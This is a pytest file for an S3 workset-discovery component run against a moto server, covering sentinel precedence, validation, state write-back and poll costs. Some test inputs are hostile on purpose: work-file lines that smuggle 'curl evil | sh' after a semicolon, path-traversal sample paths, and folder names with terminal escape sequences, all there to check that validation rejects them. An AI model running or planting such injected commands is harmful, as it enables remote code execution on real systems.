"""S3 discovery against a moto server: the folder contract, sync with the store, write-back,
and what a poll costs (counted with botocore event hooks on the client the poll uses)."""

from __future__ import annotations

import os
import threading
from collections import Counter
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from botocore.awsrequest import AWSResponse

from wsmon.core import aws
from wsmon.core.clock import ManualClock
from wsmon.config.settings import Settings
from wsmon.engine.s3 import (
    S3Source,
    escape_index_value,
    parse_sentinel_body,
    parse_timestamp,
    sentinel_state,
)
from wsmon.engine.store import open_store
from wsmon.engine.worksetfiles import TSV_COLUMNS
from wsmon.core.models import WorksetState

FIXTURE_BUCKET = "lsmc-dayoa-omics-analysis-us-west-2"
S = WorksetState


def tsv(*rows: tuple[str, str, str]) -> str:
    lines = ["\t".join(TSV_COLUMNS)]
    for sample, r1, r2 in rows:
        values = {c: "x" for c in TSV_COLUMNS}
        values.update(SAMPLE_ID=sample, R1_FQ=r1, R2_FQ=r2)
        lines.append("\t".join(values[c] for c in TSV_COLUMNS))
    return "\n".join(lines) + "\n"


class _Body:
    def __init__(self, data: bytes) -> None:
        self.data = data

    def stream(self, **_: Any):
        yield self.data


def error_response(status: int, code: str, message: str = "injected") -> AWSResponse:
    body = (f'<?xml version="1.0" encoding="UTF-8"?><Error><Code>{code}</Code>'
            f"<Message>{message}</Message></Error>").encode()
    return AWSResponse("http://injected", status, {"Content-Type": "application/xml"}, _Body(body))


class World:
    """A fresh bucket (or a unique prefix in the fixtures' bucket), a store and a counted client."""

    def __init__(self, endpoint: str, name: str, tmp_path: Path, *, bucket: str | None = None) -> None:
        self.endpoint = endpoint
        self.tmp_path = tmp_path
        self.s3 = aws.client("s3", endpoint_url=endpoint, region="us-west-2", max_attempts=3)
        self.bucket = bucket or name
        try:
            self.s3.create_bucket(Bucket=self.bucket,
                                  CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
        except self.s3.exceptions.BucketAlreadyOwnedByYou:
            pass
        self.prefix = f"{name}/active/" if bucket else "active/"
        self.clock = ManualClock(datetime.now(timezone.utc).replace(microsecond=0))
        self.store = open_store(f"sqlite:///{tmp_path}/s.db", clock=self.clock)
        self.sent: Counter[str] = Counter()
        self._lock = threading.Lock()
        self.s3.meta.events.register("before-send.s3", self._count)

    def _count(self, event_name: str, **_: Any) -> None:
        with self._lock:
            self.sent[event_name.rsplit(".", 1)[-1]] += 1

    def take_counts(self) -> Counter[str]:
        with self._lock:
            out = Counter(self.sent)
            self.sent.clear()
            return out

    def settings(self, **discovery: Any) -> Settings:
        disc = {"sources": [{"bucket": self.bucket, "prefix": self.prefix}],
                "ready_lock_backoff_seconds": 0, **discovery}
        return Settings(discovery=disc, state_dir=self.tmp_path / "state")

    def source(self, **discovery: Any) -> S3Source:
        return S3Source(self.settings(**discovery), self.store, clock=self.clock, s3_client=self.s3,
                        monitor_id="mon-1")

    def put(self, key: str, body: bytes | str = b"") -> None:
        self.s3.put_object(Bucket=self.bucket, Key=key, Body=body.encode() if isinstance(body, str) else body)

    def get(self, key: str) -> str:
        return self.s3.get_object(Bucket=self.bucket, Key=key)["Body"].read().decode()

    def keys(self, name: str) -> set[str]:
        resp = self.s3.list_objects_v2(Bucket=self.bucket, Prefix=f"{self.prefix}{name}/")
        return {o["Key"][len(f"{self.prefix}{name}/"):] for o in resp.get("Contents") or []}

    def stamp(self, delta: float = 0.0) -> str:
        return (self.clock.now() + timedelta(seconds=delta)).strftime("%Y-%m-%dT%H:%M:%SZ")

    def workset(self, name: str, sentinel: str | None = "ready", body: str | None = None, *,
                work: str = "dy-r: produce -j 4\nday-clone: -d {workdir_name}\n",
                info: str = "priority: urgent\ncustomer_id: acme\n",
                sheet: str | None = None, fastqs: bool = True) -> str:
        base = f"{self.prefix}{name}/"
        self.put(base + "daylily_work.yaml", work)
        self.put(base + "daylily_info.yaml", info)
        self.put(base + "stage_samples.tsv", sheet if sheet is not None else tsv(
            ("S1", "sample_data/S1_R1.fq.gz", "sample_data/S1_R2.fq.gz")))
        if fastqs:
            self.put(base + "sample_data/S1_R1.fq.gz", b"@r\nACGT\n+\nIIII\n")
            self.put(base + "sample_data/S1_R2.fq.gz", b"@r\nACGT\n+\nIIII\n")
        if sentinel:
            self.put(base + f"daylily.{sentinel}", body if body is not None else self.stamp(-60))
        return base


@pytest.fixture
def world(moto_endpoint: str, unique_name: str, tmp_path: Path) -> World:
    return World(moto_endpoint, unique_name, tmp_path)


# -- the contract, pure -----------------------------------------------------------------------
@pytest.mark.parametrize("text", ["20251016T111111", "2025-10-16T11:11:11Z", "2025-10-16T11:11:11+00:00",
                                  "2025-10-16T11:11:11.000000Z", "2025-10-16T11:11:11.000000+00:00",
                                  "2025-10-16T13:11:11+02:00", " 2025-10-16T11:11:11Z\n"])
def test_every_timestamp_format_used_in_the_field(text: str) -> None:
    assert parse_timestamp(text) == datetime(2025, 10, 16, 11, 11, 11, tzinfo=timezone.utc)


def test_error_body_and_unparseable_body() -> None:
    body = parse_sentinel_body(b"20251016T111111\tWS-DAT-004: column R1_FQ missing\n")
    assert body.timestamp == datetime(2025, 10, 16, 11, 11, 11, tzinfo=timezone.utc)
    assert body.detail == "WS-DAT-004: column R1_FQ missing" and body.warning is None
    junk = parse_sentinel_body(b"done by bob \x1b[31m")
    assert junk.timestamp is None and junk.warning and "done by bob" in junk.detail
    assert "\x1b" not in junk.detail
    assert parse_sentinel_body(b"").warning is None  # `touch daylily.ready` is fine


def test_precedence() -> None:
    assert sentinel_state(["ready", "lock"]) == "lock"
    assert sentinel_state(["ready", "in_progress", "lock"]) == "in_progress"
    assert sentinel_state(["in_progress", "complete"]) == "complete"
    assert sentinel_state(["complete", "error"]) == "error"
    assert sentinel_state(["error", "ignore", "ready"]) == "ignore"
    assert sentinel_state(["other"]) is None


def test_index_values_escaped() -> None:
    assert escape_index_value("a\tb\nc\\d") == "a\\tb\\nc\\\\d"
    # a folder name's escape sequence reaches the index log as text, never as a live ESC byte
    assert escape_index_value("esc\x1b[31mred\x9b") == "esc\\x1b[31mred\\x9b"


# -- the real folders -------------------------------------------------------------------------
def test_real_daylily_folders_sync_as_they_are(moto_endpoint: str, unique_name: str, tmp_path: Path,
                                               daylily_fixtures: str) -> None:
    w = World(moto_endpoint, unique_name, tmp_path, bucket=FIXTURE_BUCKET)
    names = ["test_allgiab", "test_snv", "test_help"]
    for name in names:
        folder = Path(daylily_fixtures) / name
        for path in folder.rglob("*"):
            if path.is_file():
                w.put(f"{w.prefix}{name}/{path.relative_to(folder).as_posix()}", path.read_bytes())
        # stand-ins where the sample sheet points (another workset's sample_data/, same bucket)
        for line in (folder / "stage_samples.tsv").read_text().splitlines()[1:]:
            if line.strip():
                fields = line.split("\t")
                for uri in (fields[10], fields[11]):
                    bucket, _, key = uri[5:].partition("/")
                    assert bucket == FIXTURE_BUCKET
                    w.put(key, b"@stand-in\nACGT\n+\nIIII\n")
    report = w.source().poll()
    assert sorted(report.registered) == sorted(names), report.to_dict()
    assert not report.invalid and not report.errors
    snv = w.store.get_workset("test_snv")
    assert snv.state is S.READY and snv.priority.value == "normal"
    assert snv.metadata["work"]["run_suffix"][6] == "aligners=[sent,bwa2a,strobe]"
    assert snv.metadata["s3_uri"] == f"s3://{FIXTURE_BUCKET}/{w.prefix}test_snv/"
    assert snv.state_changed_at == datetime(2025, 10, 16, 11, 11, 11, tzinfo=timezone.utc)
    assert w.store.get_workset("test_allgiab").estimate["samples"] == 7
    assert w.store.get_workset("test_help").metadata["work"]["run_suffix"] == ["help"]
    assert report.requests["HeadObject"] == 18  # 7*2 + 2 + 2 FASTQs, one HEAD each


# -- registration and validation --------------------------------------------------------------
def test_new_ready_folder_is_registered_with_priority_customer_estimate(world: World) -> None:
    world.workset("ws1")
    report = world.source().poll()
    assert report.registered == ["ws1"]
    ws = world.store.get_workset("ws1")
    assert (ws.state, ws.priority.value, ws.customer_id) == (S.READY, "urgent", "acme")
    assert ws.metadata["work"]["clone_args"] == ["-d", "ws1"]
    assert ws.metadata["info"]["customer_id"] == "acme"
    assert ws.estimate["samples"] == 1 and ws.estimate["cost_usd"] > 0
    assert ws.bucket == world.bucket and ws.prefix == f"{world.prefix}ws1/"


def test_invalid_folder_goes_to_error_with_findings_and_error_body_rest_continues(world: World) -> None:
    world.workset("good")
    world.workset("bad", work="dy-r: produce; curl x | sh\n")
    report = world.source().poll()
    assert report.registered == ["good"]
    assert [i["workset_id"] for i in report.invalid] == ["bad"]
    bad = world.store.get_workset("bad")
    assert bad.state is S.ERROR and bad.error_code == "WS-CFG-004"
    finding = next(f for f in bad.findings if f["code"] == "WS-CFG-004")
    assert finding["file"] == "daylily_work.yaml" and finding["line"] == 1 and finding["remediation"]
    stamp, _, detail = world.get(f"{world.prefix}bad/daylily.error").rstrip("\n").partition("\t")
    assert parse_timestamp(stamp) is not None
    assert detail.startswith("WS-CFG-004: daylily_work.yaml line 1, column 7:")


@pytest.mark.parametrize("sheet, code", [
    (tsv(("S1", "sample_data/S1_R1.fq.gz", "other/S1_R2.fq.gz")), "WS-DAT-007"),
    (tsv(("S1", "sample_data/S1_R1.fq.gz", "sample_data/../../x/S1_R2.fq.gz")), "WS-DAT-007"),
    (tsv(("S1", "sample_data/S1_R1.fq.gz", "s3://{bucket}/x/sample_data/../../S1_R2.fq.gz")), "WS-DAT-007"),
    (tsv(("S1", "sample_data/S1_R1.fq.gz", "s3://not-allowed-bucket/S1_R2.fq.gz")), "WS-DAT-009"),
    (tsv(("S1", "sample_data/S1_R1.fq.gz", "sample_data/absent.fq.gz")), "WS-DAT-008"),
    ("\t".join(c for c in TSV_COLUMNS if c != "R1_FQ") + "\nS1\n", "WS-DAT-004"),
    ("", "WS-DAT-002"),
    ("\x00\x01binary\x00", "WS-DAT-011"),
])
def test_sample_sheet_problems_found_by_the_poll(world: World, sheet: str, code: str) -> None:
    world.workset("ws1", sheet=sheet.replace("{bucket}", world.bucket))
    world.source().poll()
    ws = world.store.get_workset("ws1")
    assert ws.state is S.ERROR and ws.error_code == code, ws.findings


def test_oversized_tsv_is_refused_without_downloading_it(world: World) -> None:
    world.workset("big")
    world.put(f"{world.prefix}big/stage_samples.tsv", b"A" * 3000)
    world.take_counts()
    world.source(max_file_bytes=2000).poll()
    ws = world.store.get_workset("big")
    assert ws.error_code == "WS-DAT-010" and "3,000 bytes" in ws.error_details
    # sentinel body + two YAML files; the 3 kB sheet was never fetched
    assert world.take_counts()["GetObject"] == 3


def test_malformed_yaml_in_s3(world: World) -> None:
    world.workset("ws1", work="dy-r: [unclosed\n")
    world.source().poll()
    assert world.store.get_workset("ws1").error_code == "WS-CFG-002"


def test_ready_folder_still_uploading_waits(world: World) -> None:
    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp())
    report = world.source(ready_lock_backoff_seconds=3600).poll()
    assert world.store.get_workset("ws1") is None
    assert "waiting for upload" in report.waiting[0]["why"]


@pytest.mark.parametrize("name", ["with space", "ünïcødé ✓", "esc\x1b[31mred\x1b]0;x\x07", "[bold red]rich",
                                  "[@click=app.quit]x"])
def test_odd_folder_names_are_stored_literally(world: World, name: str) -> None:
    world.workset(name)
    report = world.source().poll()
    if "\x1b" in name:  # kept exactly, but refused at validation: it would fail at stage
        assert [i["code"] for i in report.invalid] == ["WS-DAT-015"]
    else:
        assert report.registered == [name]
    ws = world.store.get_workset(name)
    assert ws.workset_id == name and ws.prefix == f"{world.prefix}{name}/"
    assert ws.metadata["s3_uri"].endswith(f"/{name}/")


# -- import and precedence --------------------------------------------------------------------
@pytest.mark.parametrize("body", ["20251016T111111", "2025-10-16T11:11:11Z", "2025-10-16T11:11:11+00:00",
                                  "2025-10-16T11:11:11.000000Z"])
def test_terminal_sentinel_imports_with_its_timestamp(world: World, body: str) -> None:
    world.put(f"{world.prefix}old/daylily.complete", body)
    report = world.source().poll()
    assert report.imported == [{"workset_id": "old", "state": "complete"}]
    ws = world.store.get_workset("old")
    assert ws.state is S.COMPLETE
    assert ws.state_changed_at == datetime(2025, 10, 16, 11, 11, 11, tzinfo=timezone.utc)


def test_import_uses_precedence_and_keeps_error_detail(world: World) -> None:
    base = f"{world.prefix}"
    world.put(base + "a/daylily.ready", "20251016T111111")
    world.put(base + "a/daylily.complete", "20251017T111111")
    world.put(base + "a/daylily.error", "20251018T111111\tslurmstepd: Detected 1 oom-kill event")
    world.put(base + "b/daylily.complete", "20251016T111111")
    world.put(base + "b/daylily.ignore", "20251019T000000")
    world.put(base + "c/daylily.lock", "20251016T111111")
    world.put(base + "c/daylily.ready", "20251016T111111")
    report = world.source().poll()
    a, b = world.store.get_workset("a"), world.store.get_workset("b")
    assert a.state is S.ERROR and a.error_code == "WS-RES-001" and "oom-kill" in a.error_details
    assert b.state is S.IGNORED
    assert world.store.get_workset("c") is None  # held by another monitor: not ours to import
    assert any(w["workset_id"] == "c" for w in report.waiting)


def test_unparseable_sentinel_body_warns_and_uses_upload_time(world: World) -> None:
    world.put(f"{world.prefix}old/daylily.complete", "finished by bob")
    report = world.source().poll()
    assert world.store.get_workset("old").state is S.COMPLETE
    assert any("unreadable timestamp" in w for w in report.warnings)


# -- operator intent and the store's authority -------------------------------------------------
def test_new_ignore_sentinel_ignores(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    world.put(f"{world.prefix}ws1/daylily.ignore", world.stamp(5))
    report = src.poll()
    assert report.changes == [{"workset_id": "ws1", "from": "ready", "to": "ignored",
                               "reason": "daylily.ignore found in S3"}]
    assert world.store.events("ws1")[-1].actor == "s3"


def test_error_removed_and_newer_ready_is_a_retry_request(world: World) -> None:
    world.workset("ws1", work="dy-r: produce; bad\n")
    src = world.source()
    src.poll()
    assert world.store.get_workset("ws1").state is S.ERROR
    # the operator fixes the file, removes daylily.error and touches daylily.ready
    world.put(f"{world.prefix}ws1/daylily_work.yaml", "dy-r: produce -j 2\n")
    world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/daylily.error")
    world.clock.advance(60)
    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp())
    report = src.poll()
    ws = world.store.get_workset("ws1")
    assert ws.state is S.READY and ws.error_code is None
    assert ws.metadata["work"]["run_suffix"] == ["produce", "-j", "2"]
    assert report.changes[0]["to"] == "ready" and world.store.events("ws1")[-1].actor == "s3"


def test_error_removed_without_newer_ready_is_put_back(world: World) -> None:
    world.workset("ws1", work="dy-r: produce; bad\n", body="20251016T111111")
    src = world.source()
    src.poll()
    world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/daylily.error")
    report = src.poll()
    assert world.store.get_workset("ws1").state is S.ERROR
    assert report.sentinel_writes == 1  # the store is authoritative: daylily.error is back
    assert "daylily.error" in world.keys("ws1")


def test_retry_request_with_files_still_invalid_keeps_error_with_new_findings(world: World) -> None:
    world.workset("ws1", work="dy-r: produce; bad\n")
    src = world.source()
    src.poll()
    world.put(f"{world.prefix}ws1/daylily_work.yaml", "notes: no run suffix\n")
    world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/daylily.error")
    world.clock.advance(60)
    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp())
    report = src.poll()
    ws = world.store.get_workset("ws1")
    assert ws.state is S.ERROR and ws.error_code == "WS-CFG-003"
    assert report.invalid[0]["code"] == "WS-CFG-003"
    assert "WS-CFG-003" in world.get(f"{world.prefix}ws1/daylily.error")


@pytest.mark.parametrize("finished", ["complete", "ignore"])
def test_retry_request_on_finished_work_with_invalid_files_never_passes_through_ready(
        world: World, finished: str) -> None:
    """A fresh daylily.ready on a complete or ignored workset whose files are now invalid: the
    files are validated first and the workset goes to error in one write. It was ready then
    error in two writes, and an engine claiming in between ran invalid files."""
    world.workset("ws1", sentinel=finished, body="20251016T111111")
    src = world.source(reconcile_every=1)  # a finished folder is listed every poll
    src.poll()
    before = world.store.get_workset("ws1")
    assert before.state in (S.COMPLETE, S.IGNORED)
    world.put(f"{world.prefix}ws1/daylily_work.yaml", "dy-r: produce; curl evil | sh\n")
    world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/daylily.{finished}")
    world.clock.advance(60)
    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp())

    store_write = world.store.update_state
    claims = []

    def an_engine_claims_after_every_write(*args, **kwargs):
        updated = store_write(*args, **kwargs)
        lease = world.store.acquire_lock("ws1", "engine-2", 300)  # None: nothing to claim
        if lease is not None:
            claims.append(lease)
        return updated

    world.store.update_state = an_engine_claims_after_every_write  # type: ignore[method-assign]
    report = src.poll()
    ws = world.store.get_workset("ws1")
    assert claims == [] and ws.state is S.ERROR and ws.error_code is not None
    assert report.changes == [{"workset_id": "ws1", "from": before.state.value, "to": "error",
                               "reason": report.changes[0]["reason"]}]
    assert [(e.from_state, e.to_state) for e in world.store.events("ws1")][-1] == (
        before.state, S.ERROR)
    assert ws.error_code in world.get(f"{world.prefix}ws1/daylily.error")


def test_mirror_state_writes_sentinels_and_removes_our_lock(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    lease = world.store.acquire_lock("ws1", "mon-1", 300)
    assert src.mirror_state("ws1")
    assert world.get(f"{world.prefix}ws1/daylily.lock").endswith("\tmon-1\n")
    ws = world.store.update_state("ws1", S.IN_PROGRESS, "started", "mon-1", lease=lease)
    src.mirror_state(ws)
    ws = world.store.update_state("ws1", S.COMPLETE, "done", "mon-1", lease=lease)
    src.mirror_state(ws)
    keys = world.keys("ws1")
    assert {"daylily.complete", "daylily.in_progress", "daylily.ready"} <= keys
    assert "daylily.lock" not in keys
    # nothing disagrees now: the next poll writes nothing
    assert src.poll().sentinel_writes == 0


def test_poll_reconciles_a_transition_whose_write_never_happened(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    world.store.update_state("ws1", S.IGNORED, "operator", "bob@host")  # no mirror_state call
    report = src.poll()
    assert report.sentinel_writes >= 1
    assert "daylily.ignore" in world.keys("ws1")
    assert world.store.get_workset("ws1").state is S.IGNORED  # our own ignore is not new intent


def test_poll_never_mirrors_its_stale_view_over_a_claim_made_meanwhile(world: World) -> None:
    """An engine claims and starts a workset while a poll is running. The poll read the store
    before the claim, so its view says ready; it must not write daylily.ready over the run."""
    world.workset("ws1")
    src = world.source()
    src.poll()
    engine = world.source()
    read_store_at_poll_start = src._refresh_known

    def claim_right_after_the_poll_read_the_store() -> None:
        read_store_at_poll_start()
        lease = world.store.acquire_lock("ws1", "mon-2", 300)
        started = world.store.update_state("ws1", S.IN_PROGRESS, "started", "mon-2", lease=lease)
        engine.mirror_state(started)

    src._refresh_known = claim_right_after_the_poll_read_the_store  # type: ignore[method-assign]
    report = src.poll()
    assert report.sentinel_writes == 0
    assert sentinel_state(k.removeprefix("daylily.") for k in world.keys("ws1")) == "in_progress"
    assert world.store.get_workset("ws1").state is S.IN_PROGRESS


def test_operator_retry_in_store_removes_masking_error_sentinel(world: World) -> None:
    world.workset("ws1", work="dy-r: a; b\n")
    src = world.source()
    src.poll()
    world.store.update_state("ws1", S.READY, "operator retry", "bob@host")
    src.poll()
    keys = world.keys("ws1")
    assert "daylily.error" not in keys and "daylily.ready" in keys


def test_write_sentinels_off_writes_nothing(world: World) -> None:
    world.workset("ws1", work="dy-r: a; b\n")
    src = world.source(write_sentinels=False)
    report = src.poll()
    assert world.store.get_workset("ws1").state is S.ERROR
    assert report.sentinel_writes == 0 and not report.index_writes
    assert "daylily.error" not in world.keys("ws1")
    assert src.mirror_state("ws1") is False


# -- vanished folders -------------------------------------------------------------------------
def test_vanished_folder_is_marked_not_deleted_and_unmarked_when_back(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    for key in world.keys("ws1"):
        world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/{key}")
    report = src.poll()
    assert report.missing == ["ws1"]
    ws = world.store.get_workset("ws1")
    assert ws is not None and ws.s3_missing
    world.workset("ws1")
    report = src.poll()
    assert report.reappeared == ["ws1"] and not world.store.get_workset("ws1").s3_missing


# -- index files ------------------------------------------------------------------------------
def test_index_logs_written_only_when_changed_and_emptied(world: World) -> None:
    world.workset("b\\x")
    world.workset("a")
    src = world.source()
    report = src.poll()
    ready_log = f"{world.prefix}daylily.ready.log"
    assert f"s3://{world.bucket}/{ready_log}" in report.index_writes
    lines = world.get(ready_log).splitlines()
    assert [ln.split("\t")[0] for ln in lines] == ["a", "b\\\\x"]
    assert src.poll().index_writes == []
    world.store.update_state("a", S.IGNORED, "op", "bob@host")
    world.store.update_state("b\\x", S.IGNORED, "op", "bob@host")
    report = src.poll()
    assert world.get(ready_log) == ""
    assert len(world.get(f"{world.prefix}daylily.ignore.log").splitlines()) == 2
    assert sorted(report.index_writes) == sorted(f"s3://{world.bucket}/{world.prefix}daylily.{n}.log"
                                                 for n in ("ready", "ignore"))


def test_index_prefix_from_config(world: World) -> None:
    world.workset("a")
    world.source(sentinel_index_prefix="indexes").poll()
    assert world.get("indexes/daylily.ready.log").startswith("a\t")


# -- cost of a poll ---------------------------------------------------------------------------
def test_idle_poll_lists_only_live_folders_and_reads_no_bodies(world: World) -> None:
    for i in range(6):
        world.put(f"{world.prefix}done{i}/daylily.complete", "20251016T111111")
    world.workset("live1")
    world.workset("live2")
    src = world.source(reconcile_every=1000)
    src.poll()
    world.take_counts()
    report = src.poll()
    counts = world.take_counts()
    # one source listing + the two non-terminal folders; no GET, no HEAD, no PUT
    assert counts == Counter({"ListObjectsV2": 3}), counts
    assert report.requests == {"ListObjectsV2": 3} and report.folders_listed == 2


def test_terminal_folders_are_reconciled_once_per_reconcile_every_polls(world: World) -> None:
    for i in range(12):
        world.put(f"{world.prefix}done{i}/daylily.complete", "20251016T111111")
    src = world.source(reconcile_every=4)
    src.poll()
    listed = [src.poll().folders_listed for _ in range(8)]
    assert sum(listed) == 24  # each of the 12 folders exactly twice in 8 polls


def test_etag_cache_survives_a_restart(world: World) -> None:
    for i in range(3):
        world.put(f"{world.prefix}done{i}/daylily.complete", "20251016T111111")
    world.workset("live")
    world.source().poll()
    world.take_counts()
    restarted = world.source(reconcile_every=1)  # a new process: lists everything once
    restarted.poll()
    counts = world.take_counts()
    assert counts["ListObjectsV2"] == 5 and counts["GetObject"] == 0, counts


def test_changed_sentinel_body_is_read_again(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    world.take_counts()
    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp(-30))
    src.poll()
    assert world.take_counts()["GetObject"] == 1


# -- failures ---------------------------------------------------------------------------------
def test_access_denied_on_one_folder_errors_that_workset_only(world: World) -> None:
    world.workset("open1")
    world.workset("secret")
    world.workset("open2")
    denied = f"prefix={world.prefix}secret/"

    def deny(request: Any, **_: Any) -> AWSResponse | None:
        if denied in unquote(request.url):
            return error_response(403, "AccessDenied", "Access Denied")
        return None

    world.s3.meta.events.register("before-send.s3.ListObjectsV2", deny)
    report = world.source().poll()
    assert sorted(report.registered) == ["open1", "open2"]
    ws = world.store.get_workset("secret")
    assert ws.state is S.ERROR and ws.error_code == "WS-AWS-001"
    assert "AccessDenied" in ws.error_details
    assert any(e["workset_id"] == "secret" and e["code"] == "WS-AWS-001" for e in report.errors)


def test_throttling_is_retried_by_botocore_and_the_poll_carries_on(world: World) -> None:
    world.workset("ws1")
    world.workset("ws2")
    throttled = {"n": 0}

    def slow_down_once(request: Any, **_: Any) -> AWSResponse | None:
        if f"prefix={world.prefix}ws1/" in unquote(request.url) and throttled["n"] == 0:
            throttled["n"] += 1
            return error_response(503, "SlowDown", "Please reduce your request rate.")
        return None

    world.s3.meta.events.register("before-send.s3.ListObjectsV2", slow_down_once)
    report = world.source().poll()
    assert throttled["n"] == 1
    assert sorted(report.registered) == ["ws1", "ws2"] and not report.errors


def test_source_listing_failure_reports_and_marks_nothing_missing(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()

    def deny_all(**_: Any) -> AWSResponse:
        return error_response(403, "AccessDenied")

    world.s3.meta.events.register("before-send.s3.ListObjectsV2", deny_all)
    report = src.poll()
    assert report.errors[0]["code"] == "WS-AWS-001" and "source" in report.errors[0]
    assert not report.missing and not world.store.get_workset("ws1").s3_missing


# -- the runner's download and one-folder validation -------------------------------------------
def test_download_file_for_the_stage_step(world: World, tmp_path: Path) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    dest = src.download_file("ws1", "stage_samples.tsv", tmp_path / "dl" / "stage_samples.tsv")
    assert dest.read_text().startswith("RUN_ID\tSAMPLE_ID")
    with pytest.raises(ValueError):
        src.download_file("ws1", "../other/stage_samples.tsv", tmp_path / "x")


def test_validate_s3_folder(world: World) -> None:
    world.workset("ws1", info="priority: sometimes\n")
    report = world.source().validate_s3_folder(world.bucket, f"{world.prefix}ws1/")
    assert not report.valid and [f.code for f in report.errors] == ["WS-CFG-006"]
    world.workset("ws2")
    assert world.source().validate_s3_folder(world.bucket, f"{world.prefix}ws2").valid


def test_two_sources_with_the_same_folder_name_do_not_clash(world: World) -> None:
    world.workset("same")
    world.put("other/same/daylily.complete", "20251016T111111")
    settings_sources = [{"bucket": world.bucket, "prefix": world.prefix},
                        {"bucket": world.bucket, "prefix": "other/"}]
    src = S3Source(Settings(discovery={"sources": settings_sources, "ready_lock_backoff_seconds": 0},
                            state_dir=world.tmp_path / "st"), world.store, clock=world.clock,
                   s3_client=world.s3)
    report = src.poll()
    assert world.store.get_workset("same").prefix == f"{world.prefix}same/"
    assert any("same name" in e["message"] for e in report.errors)


@pytest.fixture(autouse=True)
def _no_stray_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for var in list(os.environ):
        if var.startswith("WSMON_"):
            monkeypatch.delenv(var)


def test_masked_sentinel_bodies_are_not_read_for_an_import(world: World) -> None:
    world.put(f"{world.prefix}old/daylily.ready", "20251016T111111")
    world.put(f"{world.prefix}old/daylily.complete", "20251017T111111")
    world.take_counts()
    world.source().poll()
    assert world.take_counts()["GetObject"] == 1  # only daylily.complete decides
    assert world.store.get_workset("old").state_changed_at.day == 17


def test_no_sentinel_is_written_into_a_vanished_folder(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    for key in world.keys("ws1"):
        world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/{key}")
    src.poll()
    world.store.update_state("ws1", S.IGNORED, "op", "bob@host")
    assert src.mirror_state("ws1") is False
    src.poll()
    assert world.keys("ws1") == set()


def test_retry_request_survives_a_poll_between_the_operators_two_steps(world: World) -> None:
    world.workset("ws1", work="dy-r: produce; bad\n")
    src = world.source()
    src.poll()
    world.put(f"{world.prefix}ws1/daylily_work.yaml", "dy-r: produce\n")
    world.clock.advance(60)
    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp())  # step 1: touch ready
    src.poll()  # daylily.error still there: nothing to do yet
    assert world.store.get_workset("ws1").state is S.ERROR
    world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/daylily.error")  # step 2
    src.poll()
    assert world.store.get_workset("ws1").state is S.READY


def test_imported_workset_retried_by_an_operator_is_validated_before_it_can_run(world: World) -> None:
    world.workset("old", sentinel="complete", body="20251016T111111", info="priority: low\n")
    src = world.source()
    src.poll()
    assert "work" not in world.store.get_workset("old").metadata
    world.store.update_state("old", S.READY, "operator re-run", "bob@host")
    src.poll()
    ws = world.store.get_workset("old")
    assert ws.state is S.READY and ws.metadata["work"]["run_suffix"] == ["produce", "-j", "4"]
    assert ws.priority.value == "low" and ws.estimate["samples"] == 1


def test_rotation_continues_across_fresh_instances(world: World) -> None:
    """The engine may build a new S3Source per poll: every terminal folder still gets its turn."""
    for i in range(10):
        world.put(f"{world.prefix}done{i}/daylily.complete", "20251016T111111")
    world.source(reconcile_every=5).poll()
    seen: Counter[str] = Counter()
    lists: list[int] = []
    for _ in range(10):
        world.take_counts()
        world.s3.meta.events.register("before-send.s3.ListObjectsV2", _remember_prefixes(seen),
                                      unique_id="rotation")
        lists.append(world.source(reconcile_every=5).poll().folders_listed)
        world.s3.meta.events.unregister("before-send.s3.ListObjectsV2", unique_id="rotation")
    assert lists == [2] * 10
    assert sorted(seen.values()) == [2] * 10  # each folder exactly twice in 10 polls


def _remember_prefixes(seen: Counter[str]):
    def hook(request: Any, **_: Any) -> None:
        url = unquote(request.url)
        if "prefix=" in url and "/done" in url:
            seen[url.split("prefix=")[1].split("&")[0]] += 1
    return hook


def test_sentinels_written_by_any_wsmon_are_recognised_after_a_restart(world: World) -> None:
    world.workset("ws1")
    src = world.source()
    src.poll()
    lease = world.store.acquire_lock("ws1", "mon-1", 300)
    src.mirror_state("ws1")
    world.store.kv_delete("s3.folders", f"{world.bucket}/{world.prefix}ws1/")  # cache lost
    world.store.update_state("ws1", S.ERROR, "failed", "mon-1", lease=lease, error_code="WS-RES-001")
    fresh = world.source()
    fresh.poll()
    keys = world.keys("ws1")
    assert "daylily.error" in keys and "daylily.lock" not in keys  # our lock, found by its metadata
    assert world.get(f"{world.prefix}ws1/daylily.error").split("\t")[1].startswith("WS-RES-001: ")


def test_reconciling_terminal_folders_reads_no_bodies(world: World) -> None:
    for i in range(4):
        world.put(f"{world.prefix}done{i}/daylily.ready", "20251016T111111")
        world.put(f"{world.prefix}done{i}/daylily.complete", "20251017T111111")
    src = world.source(reconcile_every=1)  # every terminal folder re-listed every poll
    src.poll()
    world.take_counts()
    report = src.poll()
    assert report.folders_listed == 4
    assert world.take_counts() == Counter({"ListObjectsV2": 5})
